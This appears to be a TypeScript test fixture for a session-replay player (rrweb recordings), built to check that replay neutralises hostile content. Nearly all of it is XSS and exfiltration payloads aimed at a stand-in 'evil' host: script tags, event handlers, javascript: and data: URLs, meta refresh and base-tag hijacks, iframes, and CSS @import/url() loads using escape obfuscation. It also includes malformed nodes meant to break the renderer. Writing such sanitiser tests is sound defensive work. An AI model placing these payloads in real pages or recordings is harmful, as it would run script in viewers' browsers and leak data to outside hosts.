/**
 * A corpus of hostile recordings: each entry is an element, a style sheet or a change that would run, lead away or ask
 * `evil` when a browser were given it as it is. `evil` is the address of a server that must never be asked.
 */
export interface Attack {
  name: string;
  /** Nodes in the body of the snapshot. */
  body?: (evil: string) => object[];
  /** Nodes in the head of the snapshot. */
  head?: (evil: string) => object[];
  /** Changes after the snapshot. The body is node 6, an empty `div` in it node 7, a style's text node 9. */
  changes?: (evil: string) => object[];
}

let next = 1000;
const element = (tagName: string, attributes: object = {}, childNodes: object[] = [], more: object = {}) => ({
  ...{ type: 2, id: next++, tagName, attributes, childNodes },
  ...more,
});
const text = (textContent: string, more: object = {}) => ({ type: 3, id: next++, textContent, ...more });
const svg = (tagName: string, attributes: object = {}, childNodes: object[] = []) =>
  element(tagName, attributes, childNodes, { isSVG: true });
const change = (change: object) => ({ texts: [], attributes: [], removes: [], adds: [], source: 0, ...change });
interface Given {
  id: number;
  childNodes?: Given[];
}
/** rrweb adds nodes one by one, each with its parent. */
const flat = (node: Given, parentId: number): object[] => [
  { parentId, nextId: null, node: { ...node, childNodes: [] } },
  ...(node.childNodes ?? []).flatMap((child) => flat(child, node.id)),
];
const add = (node: object, parentId = 7) => change({ adds: flat(node as Given, parentId) });
const run = "document.title='ran';parent.hacked=1;top.hacked=1";

export const ATTACKS: readonly Attack[] = [
  {
    name: 'scripts',
    body: (evil) => [
      element('script', {}, [text(run)]),
      element('SCRIPT', { src: `${evil}/a.js` }),
      element('ScRiPt', { src: `${evil}/b.js`, type: 'module' }),
      element('noscript', {}, [element('img', { src: `${evil}/noscript` })]),
      svg('script', { href: `${evil}/c.js` }, [text(run)]),
      svg('svg', {}, [
        svg('html:script', {}, [text(run)]),
        svg('foreignObject', {}, [element('script', {}, [text(run)])]),
      ]),
      element('link', { rel: 'modulepreload', href: `${evil}/d.js` }),
    ],
    changes: (evil) => [
      add(element('script', { src: `${evil}/e.js` }, [text(run)])),
      add(svg('script', {}, [text(run)])),
    ],
  },
  {
    name: 'event handlers',
    body: (evil) => [
      element('img', { src: 'x:', onerror: run, ONERROR: run }),
      element('svg', { onload: run }, [], { isSVG: true }),
      element('body', { onload: run, onpageshow: run }),
      element('details', { open: '', ontoggle: run }),
      element('input', { onfocus: run, autofocus: '' }),
      element('video', { onerror: run, src: `${evil}/v` }, [element('source', { onerror: run, src: `${evil}/s` })]),
      element('div', { style: 'animation: x 1s', onanimationstart: run }),
    ],
    changes: () => [change({ attributes: [{ id: 7, attributes: { onclick: run, onpointerenter: run } }] })],
  },
  {
    name: 'links and forms',
    body: (evil) => [
      element('a', { href: `javascript:${run}`, id: 'link', ping: `${evil}/ping` }, [text('link')]),
      element('a', { href: `JaVa\tScRiPt:${run}` }, [text('link')]),
      element('a', { href: 'data:text/html,<script>top.hacked=1</script>', target: '_top' }, [text('link')]),
      element('form', { action: `${evil}/form`, method: 'post', target: '_top' }, [
        element('input', { name: 'childNodes' }),
        element('input', { type: 'image', src: `${evil}/image` }),
        element('button', { formaction: `javascript:${run}` }, [text('send')]),
      ]),
      svg('svg', {}, [svg('a', { 'xlink:href': `javascript:${run}` }, [svg('text', {}, [text('x')])])]),
    ],
    changes: (evil) => [
      change({ attributes: [{ id: 7, attributes: { href: `javascript:${run}`, action: `${evil}/f` } }] }),
      { source: 2, type: 2, id: 7, x: 1, y: 1 },
    ],
  },
  {
    name: 'leading away',
    head: (evil) => [
      element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/refresh` }),
      element('META', { 'HTTP-EQUIV': 'Refresh', CONTENT: `0;url=${evil}/refresh2` }),
      element('meta', { 'http-equiv': 'Content-Security-Policy', content: "default-src 'none'" }),
      element('base', { href: `${evil}/base/`, target: '_top' }),
      element('link', { rel: 'preconnect dns-prefetch', href: evil }),
      element('link', { rel: 'prefetch', href: `${evil}/prefetch` }),
      element('link', { rel: 'icon', href: `${evil}/icon` }),
      element('link', { rel: 'manifest', href: `${evil}/manifest` }),
    ],
    changes: (evil) => [add(element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/refresh3` }), 4)],
  },
  {
    name: 'frames and plug-ins',
    body: (evil) => [
      element('iframe', {
        src: `${evil}/frame`,
        srcdoc: `<script>${run}</script>`,
        sandbox: 'allow-scripts allow-same-origin allow-top-navigation',
      }),
      element('iframe', { src: `javascript:${run}`, rr_src: `${evil}/rr` }),
      element('iframe', { src: 'data:text/html,<script>top.hacked=1</script>' }),
      element('IFRAME', { SRC: `${evil}/frame2`, SRCDOC: '<p>x' }),
      element('object', { data: `${evil}/object`, codebase: evil }),
      element('embed', { src: `${evil}/embed` }),
      element('frameset', {}, [element('frame', { src: `${evil}/frame3` })]),
      element('portal', { src: `${evil}/portal` }),
    ],
    changes: (evil) => [
      add(element('iframe', { src: `${evil}/added` })),
      add({ ...element('iframe', {}), id: 900 }),
      change({
        isAttachIframe: true,
        adds: [
          {
            ...{ parentId: 900, nextId: null },
            node: {
              ...{ type: 0, id: 901 },
              childNodes: [
                element('html', {}, [
                  element('head', {}, [element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/inner` })]),
                  element('body', {}, [element('script', {}, [text(run)]), element('img', { src: `${evil}/inner2` })]),
                ]),
              ],
            },
          },
        ],
      }),
    ],
  },
  {
    name: 'pictures and media',
    body: (evil) => [
      element('img', {
        src: `${evil}/img`,
        srcset: `${evil}/a 1x, ${evil}/b 2x`,
        lowsrc: `${evil}/low`,
        rr_dataURL: `${evil}/rr`,
      }),
      element('picture', {}, [
        element('source', { srcset: `${evil}/source` }),
        element('img', { src: '//evil.example/x' }),
      ]),
      element('canvas', { rr_dataURL: `${evil}/canvas` }),
      element('video', { poster: `${evil}/poster`, src: `${evil}/video`, rr_mediaState: 'played', autoplay: '' }),
      element('audio', { src: `${evil}/audio` }, [element('track', { src: `${evil}/track` })]),
      element('table', { background: `${evil}/table` }),
      svg('svg', {}, [
        svg('image', { href: `${evil}/svg1`, 'xlink:href': `${evil}/svg2` }),
        svg('use', {
          href: `${evil}/sprite.svg#x`,
          'xlink:href': 'data:image/svg+xml,<svg id="x"><script>1</script></svg>#x',
        }),
        svg('feImage', { href: `${evil}/fe` }),
        svg('rect', {
          fill: `url(${evil}/fill#a)`,
          mask: `u\\72l(${evil}/mask#a)`,
          style: `filter:url(${evil}/filter#a)`,
        }),
        svg('image', {}, [
          svg('set', { attributeName: 'href', to: `${evil}/set` }),
          svg('animate', { attributeName: 'xlink:href', values: `${evil}/animate` }),
        ]),
      ]),
    ],
    changes: (evil) => [
      add(element('img', { src: `${evil}/added.png` })),
      add({ ...element('img'), id: 902 }),
      change({
        attributes: [
          { id: 902, attributes: { src: `${evil}/changed`, srcset: `${evil}/changed2 1x`, rr_dataURL: `${evil}/rr2` } },
        ],
      }),
      { source: 10, family: 'evil', fontSource: `url(${evil}/font)`, buffer: false, descriptors: {} },
      { source: 9, id: 902, type: 0, commands: [{ property: 'drawImage', args: [`${evil}/drawn`] }] },
    ],
  },
  {
    name: 'style sheets',
    head: (evil) => [
      element('style', {}, [text(`@import "${evil}/i1"; @IMPORT url(${evil}/i2); @\\69mport '${evil}/i3';`)]),
      element('style', {
        _cssText: `@import url("${evil}/i4"); body{background:url(${evil}/b1)} @font-face{font-family:e;src:url(${evil}/f1)} body{font-family:e}`,
      }),
      element('link', { rel: 'stylesheet', href: `${evil}/sheet.css` }),
      element('link', { rel: 'stylesheet', href: `${evil}/s2.css`, _cssText: `body{list-style:url('${evil}/b2')}` }),
      element('style', {}, [
        text(
          `div{background:\\75\\72\\6c(${evil}/b3);cursor:image-set("${evil}/b4" 1x);content:"\\\r\n"url(${evil}/b5)}`,
        ),
      ]),
      element('style', {}, [text(`div::before{content:'x';--u:"${evil}/b6";background:image-set(var(--u) 1x)}`)]),
    ],
    body: (evil) => [
      element('div', { style: `background:url(${evil}/b7);border-image:url("${evil}/b8")` }, [text('styled')]),
    ],
    changes: (evil) => [
      {
        source: 8,
        id: 8,
        adds: [
          { rule: `body{background:url(${evil}/r1)}`, index: 0 },
          { rule: `@import "${evil}/r2";`, index: 0 },
        ],
      },
      { source: 13, id: 8, index: [0], set: { property: 'background', value: `url(${evil}/d1)` } },
      {
        source: 15,
        id: 1,
        styleIds: [1],
        styles: [{ styleId: 1, rules: [{ rule: `body{background:url(${evil}/a1)}`, index: 0 }] }],
      },
      change({ texts: [{ id: 9, value: `@import "${evil}/t1"; div{background:u\\72l(${evil}/t2)}` }] }),
      change({
        attributes: [
          {
            id: 7,
            attributes: { style: { background: `url(${evil}/s1)`, 'border-image': [`url(${evil}/s2)`, 'important'] } },
          },
        ],
      }),
      change({ attributes: [{ id: 8, attributes: { _cssText: `body{background:url(${evil}/c1)}` } }] }),
      add(text(`div{background:url(${evil}/t3)}`), 8),
    ],
  },
  {
    name: 'shapes that break what draws them',
    body: () => {
      let deep: object = text('deep');
      for (let n = 0; n < 700; n++) deep = element('div', {}, [deep]);
      return [
        deep,
        { ...element('div', {}, [{ ...element('p'), id: 6 }]), id: 6 },
        element('bad name', {}),
        element('constructor', { 'bad"name': 'x', '': 'y', __proto__: 'z' }),
        element('x-y', {}, [], { isCustom: true }),
        element('font-face', {}, [], { isCustom: true }),
        element('input', {}, [element('p', {}, [], { isShadow: true })], { isShadowHost: true }),
        { type: 4, id: next++, textContent: 'cdata' },
        { type: 0, id: next++, childNodes: [] },
        { type: 1, id: next++, name: 'a b', publicId: '', systemId: '' },
        { type: 99, id: next++ },
        { type: 2, id: 'x', tagName: 'p' },
        { type: 2, id: next++, tagName: null, attributes: null, childNodes: null },
        element('img', { name: 'getElementsByTagName' }),
        element('form', { name: 'documentElement', id: 'head' }),
        null as never,
      ];
    },
    changes: () => [
      { source: 4, width: 1e9, height: -5 },
      change({ adds: [{ parentId: 7, nextId: null, node: { ...element('div'), id: 910 } }] }),
      change({ adds: [{ parentId: 910, nextId: null, node: { ...element('div'), id: 911 } }] }),
      // Into one another, in a circle.
      change({
        adds: [
          { parentId: 911, nextId: null, node: { type: 2, id: 910, tagName: 'div', attributes: {}, childNodes: [] } },
        ],
      }),
      change({
        adds: [
          { parentId: 910, nextId: 910, node: { type: 2, id: 910, tagName: 'div', attributes: {}, childNodes: [] } },
        ],
      }),
      change({
        texts: [{ id: 4e9, value: null }],
        removes: [{ id: 4e9, parentId: 7 }],
        attributes: [{ id: -1, attributes: null }],
      }),
      { source: 1, positions: [] },
      { source: 1, positions: [{ x: 'a', y: null }] },
      { source: 2, type: 77, id: 7 },
      { source: 14, ranges: [{ start: 7, startOffset: 1e9, end: 7, endOffset: -1 }] },
      { source: 'x' },
    ],
  },
];

/** A recording of one attack: a snapshot, its changes, and a word at the end by which one sees that it was drawn. */
export function recordingOf({ head, body, changes }: Attack, evil: string, from: number): object[] {
  const snapshot = {
    ...{ type: 0, id: 1 },
    childNodes: [
      { type: 1, id: 2, name: 'html', publicId: '', systemId: '' },
      {
        ...{ type: 2, id: 3, tagName: 'html', attributes: {} },
        childNodes: [
          {
            ...{ type: 2, id: 4, tagName: 'head', attributes: {} },
            childNodes: [
              {
                type: 2,
                id: 8,
                tagName: 'style',
                attributes: {},
                childNodes: [{ type: 3, id: 9, textContent: 'p{color:green}' }],
              },
              ...(head?.(evil) ?? []),
            ],
          },
          {
            ...{ type: 2, id: 6, tagName: 'body', attributes: {} },
            childNodes: [{ type: 2, id: 7, tagName: 'div', attributes: {}, childNodes: [] }, ...(body?.(evil) ?? [])],
          },
        ],
      },
    ],
  };
  const all = [...(changes?.(evil) ?? []), add(element('p', {}, [text('drawn')]))];
  return [
    { type: 4, timestamp: from, data: { href: `${evil}/page`, width: 800, height: 500 } },
    { type: 2, timestamp: from + 10, data: { node: snapshot, initialOffset: { top: 0, left: 0 } } },
    ...all.map((data, n) => ({ type: 3, timestamp: from + 200 + n * 20, data })),
    {
      type: 5,
      timestamp: from + 1800,
      data: { tag: 'tl-console', payload: { level: 'error', text: '<img src=x onerror=alert(1)>' } },
    },
    { type: 6, timestamp: from + 1800, data: { plugin: 'evil', payload: {} } },
    { type: 3, timestamp: from + 2000, data: { source: 3, id: 1, x: 0, y: 0 } },
  ];
}
